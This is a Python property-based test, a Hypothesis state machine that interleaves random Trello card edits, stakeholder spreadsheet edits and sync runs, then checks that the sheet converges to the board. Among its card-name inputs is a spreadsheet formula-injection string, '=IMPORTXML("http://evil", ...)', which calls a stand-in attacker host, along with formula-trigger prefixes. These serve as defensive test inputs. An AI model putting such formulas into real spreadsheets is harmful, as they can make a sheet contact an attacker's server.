"""The sync state machine: Trello edits, stakeholder edits and syncs interleaved at random (Hypothesis).

tests/core/test_engine_state_machine.py runs it; tests/core/test_two_way_state_machine.py extends it.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, precondition, rule

from app.core.decode import board_from_json
from app.core.engine import plan
from app.core.mapping import board_rows
from app.core.plan import Plan, plan_from_json
from app.errors import DuplicateKeyError
from tests.support.boardjson import CHANNEL_OPTIONS, LABELS, LISTS, board, card, policy
from tests.support.memsheet import MemSheet, sync

POLICY = policy(max_deletes=10**6)
NOTES = "Notes"  # the stakeholders' free column; it starts first, so owned columns never start at A
NAMES = st.one_of(
    st.text(max_size=12),
    st.sampled_from(['=IMPORTXML("http://evil", "//a")', "+1", "-2", "@x", "🎉 launch", "שלום", "  "]),
)
DUES = st.one_of(
    st.none(),
    st.datetimes(min_value=datetime(2025, 1, 1), max_value=datetime(2027, 1, 1)).map(
        lambda d: d.replace(tzinfo=UTC).strftime("%Y-%m-%dT%H:%M:00.000Z")
    ),
)
CUSTOM = st.sampled_from(
    [
        None,
        {"idCustomField": "cf1", "idValue": "o1"},
        {"idCustomField": "cf1", "idValue": "o2"},
        {"idCustomField": "cf2", "value": {"number": "12"}},
        {"idCustomField": "cf2", "value": {"number": "-0.5"}},
        {"idCustomField": "cf3", "value": {"checked": "true"}},
        {"idCustomField": "cf3", "value": {"checked": "false"}},
    ]
)


def _same(a: Any, b: Any) -> bool:
    return type(a) is type(b) and a == b


class SyncMachine(RuleBasedStateMachine):
    """A board and a sheet edited by everyone, synced now and then."""

    policy = POLICY

    def __init__(self) -> None:
        super().__init__()
        self.cards: dict[str, dict[str, Any]] = {}
        self.serial = 0
        self.sheet = MemSheet(header=["Notes"])
        self.base: dict[str, Any] | None = None
        self.notes: dict[str, str] = {}
        self.copied: str | None = None
        self.free = [NOTES]
        assert not CHANNEL_OPTIONS.keys() & LABELS.keys()

    # ---- helpers
    def _board(self) -> dict[str, Any]:
        return board(list(self.cards.values()))

    def _keyed_rows(self) -> dict[int, str]:
        """Grid row -> key for every keyed row."""
        headers = self.sheet.tab().headers
        if "Card ID" not in headers:
            return {}
        column = headers.index("Card ID")
        values = {r: self.sheet.value(r, column) for r in range(1, len(self.sheet.grid))}
        return {r: v for r, v in values.items() if isinstance(v, str) and v}

    def _column(self, header: str) -> int:
        return self.sheet.tab().headers.index(header)

    def _pick_card(self, data: st.DataObject) -> dict[str, Any]:
        return self.cards[data.draw(st.sampled_from(sorted(self.cards)))]

    # ---- Trello edits
    @rule(name=NAMES, due=DUES, list_id=st.sampled_from(sorted(LISTS)))
    def create_card(self, name: str, due: str | None, list_id: str) -> None:
        self.serial += 1
        key = f"{self.serial:024x}"  # Trello-shaped ids: 24 hex digits
        self.cards[key] = card(key, name, due=due, idList=list_id, pos=float(self.serial * 100))
        self.cards[key]["name"] = name  # the helper's default never hides an empty title

    @precondition(lambda self: self.cards)
    @rule(data=st.data(), name=NAMES)
    def rename_card(self, data: st.DataObject, name: str) -> None:
        self._pick_card(data)["name"] = name

    @precondition(lambda self: self.cards)
    @rule(data=st.data(), list_id=st.sampled_from(sorted(LISTS)))
    def move_card(self, data: st.DataObject, list_id: str) -> None:
        self._pick_card(data)["idList"] = list_id

    @precondition(lambda self: self.cards)
    @rule(data=st.data(), due=DUES)
    def change_due(self, data: st.DataObject, due: str | None) -> None:
        self._pick_card(data)["due"] = due

    @precondition(lambda self: self.cards)
    @rule(data=st.data())
    def toggle_archive(self, data: st.DataObject) -> None:
        raw = self._pick_card(data)
        raw["closed"] = not raw["closed"]

    @precondition(lambda self: self.cards)
    @rule(list_id=st.sampled_from(sorted(LISTS)))
    def archive_list(self, list_id: str) -> None:
        for raw in self.cards.values():
            raw["closed"] = raw["closed"] or raw["idList"] == list_id

    @precondition(lambda self: len(self.cards) > 1)  # an empty board is a guard case, tested apart
    @rule(data=st.data())
    def delete_card(self, data: st.DataObject) -> None:
        del self.cards[self._pick_card(data)["id"]]

    @precondition(lambda self: self.cards)
    @rule(data=st.data(), label=st.sampled_from(sorted(LABELS)))
    def toggle_label(self, data: st.DataObject, label: str) -> None:
        labels = self._pick_card(data)["idLabels"]
        labels.remove(label) if label in labels else labels.append(label)

    @precondition(lambda self: self.cards)
    @rule(data=st.data(), item=CUSTOM, clear=st.sampled_from(["cf1", "cf2", "cf3"]))
    def set_custom_field(self, data: st.DataObject, item: dict[str, Any] | None, clear: str) -> None:
        raw = self._pick_card(data)
        field = item["idCustomField"] if item else clear
        raw["customFieldItems"] = [i for i in raw["customFieldItems"] if i["idCustomField"] != field]
        if item is not None:
            raw["customFieldItems"].append(item)

    # ---- stakeholder edits
    @precondition(lambda self: self.copied is None)
    @rule(data=st.data(), text=st.text(min_size=1, max_size=8).filter(str.strip))
    def write_note(self, data: st.DataObject, text: str) -> None:
        rows = self._keyed_rows()
        if rows:
            row = data.draw(st.sampled_from(sorted(rows)))
            self.sheet.set(row, self._column(NOTES), {"userEnteredValue": {"stringValue": text}})
            self.notes[rows[row]] = text

    @precondition(lambda self: self.copied is None)
    @rule(data=st.data())
    def resort_rows(self, data: st.DataObject) -> None:
        body = self.sheet.grid[1:]
        order = data.draw(st.permutations(range(len(body))))
        self.sheet.grid[1:] = [body[i] for i in order]

    @precondition(lambda self: self.copied is None)
    @rule(data=st.data())
    def delete_row(self, data: st.DataObject) -> None:
        rows = self._keyed_rows()
        if len(rows) > 1:  # an emptied sheet is a guard case, tested apart
            row = data.draw(st.sampled_from(sorted(rows)))
            del self.sheet.grid[row]
            self.notes.pop(rows[row], None)

    @precondition(lambda self: self.copied is None)
    @rule(data=st.data())
    def copy_row(self, data: st.DataObject) -> None:
        rows = self._keyed_rows()
        if rows:
            row = data.draw(st.sampled_from(sorted(rows)))
            self.sheet.grid.append([dict(c) for c in self.sheet.grid[row]])
            self.copied = rows[row]

    @precondition(lambda self: self.copied is None)
    @rule(data=st.data())
    def rename_header(self, data: st.DataObject) -> None:
        headers = self.sheet.tab().headers
        owned = [i for i, h in enumerate(headers) if h and h not in self.free]
        if owned:
            column = data.draw(st.sampled_from(owned))
            self.sheet.set(0, column, {"userEnteredValue": {"stringValue": headers[column] + " (mine)"}})

    @precondition(lambda self: self.copied is None and len(self.free) < 4)
    @rule(data=st.data())
    def insert_free_column(self, data: st.DataObject) -> None:
        """A stakeholder inserts a column anywhere (insertDimension): owned columns may shift right."""
        width = len(self.sheet.tab().headers)
        at = data.draw(st.integers(0, width))
        header = f"Extra {len(self.free)}"
        for row in self.sheet.grid:
            row[at:at] = [{}] if at <= len(row) else []
        self.sheet.grid[0][at] = {"userEnteredValue": {"stringValue": header}}
        self.sheet.meta.insert(at, [])
        self.sheet.column_count += 1
        self.free.append(header)

    @rule()
    def lose_state_store(self) -> None:
        self.base = None

    # ---- the run
    @rule()
    def run_sync(self) -> None:
        data = self._board()
        self.planned_from = self.base  # the base this run plans against
        try:
            result = sync(self.sheet, data, self.base, self.policy)
        except DuplicateKeyError as refused:
            assert self.copied is not None and list(refused.rows) == [self.copied]
            del self.sheet.grid[refused.rows[self.copied][-1] - 1]  # the stakeholder removes the copy
            self.copied = None
            result = sync(self.sheet, data, self.base, self.policy)
        assert self.copied is None, "a copied row must be refused"
        self.base = result.base
        assert plan_from_json(json.loads(json.dumps(result.to_json()))) == result
        self._check_converged(self._applied(result, data))

    def _applied(self, result: Plan, data: dict[str, Any]) -> dict[str, Any]:
        """The board once Trello applied the run's writes (one-way pairs write none)."""
        assert result.trello == ()
        return data

    def _check_converged(self, data: dict[str, Any]) -> None:
        wanted = board_rows(board_from_json(data), self.policy)
        tab = self.sheet.tab()
        # headers restored in place: no column added, none shifted
        owned = [c.header for c in self.policy.owned_columns()]
        assert sorted(tab.headers) == sorted([*self.free, *owned])
        assert [h for h in tab.headers if h not in self.free] == owned
        rows = self._keyed_rows()
        assert sorted(rows.values()) == sorted(wanted.rows)
        for row, key in rows.items():
            for header, cell in wanted.rows[key].items():
                assert _same(self.sheet.value(row, tab.headers.index(header)), cell.value), (key, header)
        self.notes = {k: v for k, v in self.notes.items() if k in wanted.rows}
        for row, key in rows.items():
            assert self.sheet.value(row, self._column(NOTES)) == self.notes.get(key), key
        assert plan(self.base, wanted, tab, self.policy).empty

    @invariant()
    def header_stays_frozen_once_synced(self) -> None:
        assert self.base is None or self.sheet.frozen_rows == 1
